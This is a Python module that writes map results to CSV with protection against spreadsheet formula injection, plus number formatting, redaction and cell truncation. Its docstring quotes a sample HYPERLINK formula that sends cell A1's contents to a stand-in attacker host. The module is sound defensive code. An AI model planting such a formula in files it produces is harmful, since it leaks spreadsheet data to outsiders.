"""Map tables written for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

A map's answers come from web pages, and a page can say ``=HYPERLINK("https://evil.example/?"&A1, "click")``.
Excel, LibreOffice and Google Sheets open a CSV cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in some
of them, a tab or carriage return before one) as a live formula. The OWASP rule for CSV injection is applied to
every text cell of a CSV the map writes: such a cell gets a single quote in front, which every spreadsheet shows
as text and none evaluates. ``raw=True`` keeps the cells as they came (for a consumer that is not a spreadsheet
and needs the exact text). The DataFrame (``MapResult.to_pandas``) and the JSON outputs always keep the true
values: only what a spreadsheet opens is changed.

A number cell is written as a plain decimal of at most :data:`NUMBER_DIGITS` significant digits: a row's
``cost`` is a sum of floats, and ``0.1 + 0.2`` is ``0.30000000000000004`` to the last bit, which a spreadsheet
shows as it is. A sum of decimal amounts keeps far fewer wrong digits than 12 significant ones leave room for, so
its cell says the sum itself (``0.3``); a spreadsheet keeps 15 digits at most anyway.
"""

from __future__ import annotations

import csv
import json
import math
from collections.abc import Callable, Iterable, Mapping
from decimal import Decimal
from typing import Any

from ...core.text import map_strings

#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet may show it: a string beginning with one of :data:`FORMULA_STARTS` gets a
    single quote in front; every other value (numbers included, which are not formulas) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


#: The significant digits a number cell keeps (see the module docstring).
NUMBER_DIGITS = 12


def number(value: float) -> str:
    """``value`` as a spreadsheet should read it: ``0.30000000000000004`` → ``0.3``, ``2.5e-07`` → ``0.00000025``.

    At most :data:`NUMBER_DIGITS` significant digits, as a plain decimal (an exponent only beyond 1e15 or below
    1e-12, where a plain one would be a run of zeros), with a decimal point, so it reads back as the float it is
    (``79.0``); a whole number below 2**53 with every digit (an id that pandas made a float keeps all of them);
    ``nan`` and ``inf`` as Python writes them."""
    if not math.isfinite(value):
        return str(value)
    if value.is_integer() and abs(value) < 2**53:
        return repr(value + 0.0)  # -0.0 is 0.0
    short = f"{value:.{NUMBER_DIGITS}g}"
    exact = Decimal(short)
    text = format(exact, "f") if -12 <= exact.adjusted() < 15 else short
    return text if any(c in text for c in ".e") else text + ".0"


def spreadsheet_cell(value: Any) -> Any:
    """What a spreadsheet is given for ``value``: a float as :func:`number` writes it (a number, never taken
    for a formula: ``-1`` stays ``-1``), any other value as :func:`neutralise` makes it."""
    return number(value) if isinstance(value, float) else neutralise(value)


def cell(value: Any) -> Any:
    """A value one cell can hold: nested data as JSON text, None as the empty cell."""
    if value is None:
        return ""
    return json.dumps(value, ensure_ascii=False, default=str) if isinstance(value, (dict, list)) else value


#: The longest text a cell keeps: below the 131,072 characters Python's csv module reads back by default.
MAX_CELL = 100_000
#: What a cell says when its text was not valid Unicode (a lone surrogate): the bad code points are written as
#: ``\\udXXX`` escapes and the cell ends with this mark.
ESCAPED = " [escaped: not valid Unicode]"


def cut_mark(length: int) -> str:
    """What a cell longer than :data:`MAX_CELL` ends with, saying how long its text was."""
    return f" [cut: {length:,} characters]"


def table_text(text: str, redact: Callable[[str], str]) -> str:
    """One string of the table as every output can hold it: secrets redacted (``redact``, the vault's), a lone
    surrogate escaped and marked, a huge text cut and marked. A bad value spoils its own cell, never the table."""
    text = redact(text)
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        text = text.encode("utf-8", "backslashreplace").decode("utf-8") + ESCAPED
    if len(text) > MAX_CELL:
        text = text[:MAX_CELL] + cut_mark(len(text))
    return text


def table_value(value: object, redact: Callable[[str], str]) -> object:
    """``value`` (nested data too, keys included) with :func:`table_text` applied to every string in it."""
    if isinstance(value, (str, dict, list, tuple)):
        return map_strings(value, lambda text: table_text(text, redact))
    return value


def write_csv(path: str, columns: list[str], records: Iterable[Mapping[str, Any]], *, raw: bool = False) -> None:
    """The table to ``path`` as UTF-8 CSV; every cell (the header too) neutralised and every float written by
    :func:`number`, unless ``raw``."""
    keep = (lambda v: v) if raw else spreadsheet_cell
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow([keep(c) for c in columns])
        for record in records:
            writer.writerow([keep(cell(record.get(c))) for c in columns])
